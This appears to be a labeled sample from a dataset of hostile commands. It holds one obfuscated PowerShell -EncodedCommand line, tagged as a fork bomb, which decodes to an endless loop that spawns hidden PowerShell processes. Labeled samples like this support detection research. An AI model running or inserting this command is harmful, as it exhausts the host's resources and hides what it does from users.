# description: Hides an endless Start-Process loop inside -EncodedCommand.
# family: fork-bomb
# obfuscated: yes
powershell.exe -EncodedCommand dwBoAGkAbABlACgAJAB0AHIAdQBlACkAewBTAHQAYQByAHQALQBQAHIAbwBjAGUAcwBzACAAcABvAHcAZQByAHMAaABlAGwAbAAgAC0AVwBpAG4AZABvAHcAUwB0AHkAbABlACAASABpAGQAZABlAG4AfQA=
